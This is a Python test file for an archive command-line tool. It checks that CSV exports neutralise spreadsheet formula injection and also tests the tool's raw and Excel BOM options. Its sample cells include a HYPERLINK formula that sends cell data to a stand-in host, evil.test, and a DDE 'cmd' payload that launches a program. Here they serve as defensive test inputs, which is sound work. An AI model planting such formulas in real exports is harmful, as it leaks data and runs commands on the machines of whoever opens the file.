"""CSV: no cell of a document is a formula in a spreadsheet, machines and Excel have their own switches."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from archive import users
from archive.catalog.authority import read_csv
from archive.cli import main
from archive.cli.reference import contexts
from archive.printable import guarded, unguarded
from archive.users import UserRole

FORMULAS = (
    '=HYPERLINK("http://evil.test?"&A1,"Lire la suite")', "=cmd|' /C calc'!A1", "+33 1 02 03 04 05", "-2+3",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "- premier point", "\n=1+1",
)  # fmt: skip
HARMLESS = ("Élan", "1 = 1", "a-b", "'quoted'", "«=»", "2017-03-01", "", "\\x00")


@pytest.mark.parametrize("cell", FORMULAS)
def test_formulas_are_guarded(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_cells_stay(cell: str) -> None:
    assert guarded(cell) == cell
    assert unguarded(cell) == cell


@given(st.text())
def test_a_cell_comes_back(cell: str) -> None:
    if not cell.startswith("'"):
        assert unguarded(guarded(cell)) == cell


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive whose titles, texts and names begin as formulas do."""
    where = tmp_path_factory.mktemp("formulas")
    (where / "in").mkdir()
    for i, start in enumerate(FORMULAS):
        text = f"{start} Réunion à Lille\n\nLe {i + 1} mars 2017, Maud Lestienne parle à Calais.\n{start}\n"
        (where / "in" / f"={i}.txt").write_text(text, "utf-8", newline="")
    taught = where / "taught.csv"
    taught.write_text("name,type,same-as\n-Lestienne,PERSON,=1+1\n@Brévaux,PLACE,\n", "utf-8")
    decided = ["entities", "rename", "Calais", "=Calais", "--by", "@me", "--note", "=1+1"]
    closed = ["close", "Réunion", "--for-ever", "--by", "-me", "--why", "=1+1"]
    for command in (["ingest", str(where / "in")], ["authority", "import", str(taught)], decided, closed):
        done = CliRunner().invoke(main, ["--archive", str(where / "archive"), *command])
        assert done.exit_code == 0, done.output
    users.add(where / "archive", "=1+1", UserRole.READER, "une phrase assez longue")
    return where / "archive"


def run(folder: Path, *args: str) -> Result:
    done = CliRunner().invoke(main, ["--archive", str(folder), *args])
    assert done.exit_code == 0, done.output
    return done


TABLES = (
    ["export", "documents"], ["export", "mentions"], ["export", "timelines"], ["search", "Lille OR Calais"],
    ["entities"], ["pairs"], ["authority", "list"], ["authority", "export"], ["check"], ["formats"],
    ["decisions"], ["timeline", "Calais"], ["users", "list"],
    ["care", "list"], ["care", "log"], ["export", "dc"],
)  # fmt: skip

GROUPS = ("authority", "care", "export", "users")


def test_every_command_that_prints_tables_is_looked_at() -> None:
    """And has the two switches."""
    with_csv = set()
    for context in contexts():
        named = {p.name: p for p in context.command.params}
        if "csv" in getattr(getattr(named.get("form"), "type", None), "choices", ()):
            with_csv.add(context.command_path.removeprefix("archive "))
            assert {"raw", "bom"} <= set(named)
    assert with_csv == {" ".join(t[:2]) if t[0] in GROUPS else t[0] for t in TABLES}


@pytest.mark.parametrize("table", TABLES, ids=" ".join)
def test_no_cell_is_a_formula(folder: Path, table: list[str]) -> None:
    shown, raw = (
        list(csv.reader(io.StringIO(run(folder, *table, "--format", "csv", *more).stdout, newline="")))
        for more in ([], ["--raw"])
    )
    assert len(shown) == len(raw)
    assert not [
        cell for row in shown for cell in row if cell.lstrip()[:1] in ("=", "+", "-", "@") and cell != "-"
    ]
    changed = 0
    for row, as_is in zip(shown, raw, strict=True):
        for a, b in zip(row, as_is, strict=True):
            changed += a != b
            assert a in (b, f"'{b}") or "\r" in b or a.startswith(("{", "[")), (a, b)
    if table[0] in ("authority", "search") or "documents" in table:
        assert changed > 1


def test_raw_cells_are_as_they_are_and_numbers_are_numbers(folder: Path) -> None:
    documents = [json.loads(x) for x in run(folder, "export", "documents").stdout.split("\n")[:-1]]
    table = run(folder, "export", "documents", "--format", "csv", "--raw").stdout
    rows = list(csv.DictReader(io.StringIO(table, newline="")))
    assert [r["text"] for r in rows] == [d["text"] for d in documents]
    assert {r["title"] for r in rows} == {d["title"] or "" for d in documents}
    shown = run(folder, "search", "Lille", "--format", "csv").stdout
    assert all(float(r["score"]) for r in csv.DictReader(io.StringIO(shown)))


def test_a_mark_for_excel(folder: Path) -> None:
    done = run(folder, "export", "documents", "--format", "csv", "--bom")
    assert done.stdout_bytes.startswith(b"\xef\xbb\xbfid,source,")
    assert done.stdout_bytes.count(b"\xef\xbb\xbf") == 1
    plain = run(folder, "export", "documents", "--format", "csv")
    assert done.stdout_bytes[3:] == plain.stdout_bytes
    assert run(folder, "export", "documents", "--bom").stdout_bytes.startswith(b"{")


def test_a_table_whose_name_is_no_utf8_is_taken_in(folder: Path, tmp_path: Path) -> None:
    taught = tmp_path / os.fsdecode(b"caf\xe9.csv")
    taught.write_text("name,type\nPortes Ouvertes,ORG\n")
    for _ in range(2):  # the second replaces the first
        run(folder, "authority", "import", str(taught))
    rows = json.loads(run(folder, "authority", "list", "--format", "json").stdout)
    assert [row["file"] for row in rows if row["name"] == "Portes Ouvertes"] == [r"caf\xe9.csv"]
    taught.write_text("name,type\n")
    run(folder, "authority", "import", str(taught))


@pytest.mark.parametrize("more", [[], ["--raw"], ["--bom"]])
def test_names_that_were_taught_come_back_from_a_table(folder: Path, tmp_path: Path, more: list[str]) -> None:
    table = run(folder, "authority", "list", "--format", "csv", *more).stdout_bytes
    (tmp_path / "again.csv").write_bytes(table)
    found = {(k.name, k.same_as) for k in read_csv(tmp_path / "again.csv")}
    assert found == {("-Lestienne", "=1+1"), ("@Brévaux", "")}
